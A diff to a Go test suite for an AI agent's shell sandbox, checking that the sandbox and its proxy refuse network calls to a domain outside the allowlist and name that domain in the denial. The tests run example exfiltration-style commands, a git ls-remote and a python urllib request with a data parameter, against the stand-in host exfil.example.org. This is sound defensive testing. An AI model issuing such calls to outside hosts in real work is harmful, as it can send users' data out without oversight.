@@ -98,12 +98,9 @@ func TestSandboxDenialWithoutAPersonIsNotRetried(t *testing.T) {
 	}
 }
 
-// A network client in a command without network is refused by the proxy
-// before any lookup, and the denial names the domain.
+// A network client in a command without network finds none, and the
+// denial names the domain it wanted.
 func TestSandboxNetworkDenialNamesTheDomain(t *testing.T) {
-	if _, err := os.Stat("/usr/bin/python3"); err != nil {
-		t.Skip("python3 is needed for the client")
-	}
 	ap := &fakeApprover{shell: func(p ShellProposal) ShellDecision {
 		if p.Denial != nil {
 			return ShellDecision{Reason: "no"}
@@ -111,12 +108,32 @@ func TestSandboxNetworkDenialNamesTheDomain(t *testing.T) {
 		return ShellDecision{Allowed: true, Command: p.Command}
 	}}
 	env, _ := sandboxedEnv(t, ap)
-	res := runShellRaw(t, env, `python3 -c "import urllib.request; urllib.request.urlopen('https://exfil.example.org/x?d=1', timeout=5)"`)
+	res := runShellRaw(t, env, `git ls-remote https://exfil.example.org/repo.git`)
 	m := res.Meta.(ShellMeta)
 	if res.OK || m.Denial == nil || len(m.Denial.Domains) != 1 || m.Denial.Domains[0] != "exfil.example.org" {
 		t.Fatalf("network denial not named: %+v\n%s", m.Denial, res.Output)
 	}
 	if !strings.Contains(res.Output, "network access to exfil.example.org") {
 		t.Fatalf("the model is not told the domain: %s", res.Output)
+	}
+}
+
+// A command granted network reaches nothing but the proxy, which refuses
+// a domain outside the allowlist before any lookup and names it.
+func TestSandboxProxyRefusesAndNamesTheDomain(t *testing.T) {
+	if _, err := os.Stat("/usr/bin/python3"); err != nil {
+		t.Skip("python3 is needed for the client")
+	}
+	ap := &fakeApprover{shell: func(p ShellProposal) ShellDecision {
+		if p.Denial != nil {
+			return ShellDecision{Reason: "no"}
+		}
+		return ShellDecision{Allowed: true, Command: p.Command, Grant: SandboxGrant{Network: true}}
+	}}
+	env, _ := sandboxedEnv(t, ap)
+	res := runShellRaw(t, env, `python3 -c "import urllib.request; urllib.request.urlopen('https://exfil.example.org/x?d=1', timeout=5)"`)
+	m := res.Meta.(ShellMeta)
+	if res.OK || m.Denial == nil || len(m.Denial.Domains) != 1 || m.Denial.Domains[0] != "exfil.example.org" {
+		t.Fatalf("proxy refusal not named: %+v\n%s", m.Denial, res.Output)
 	}
 }
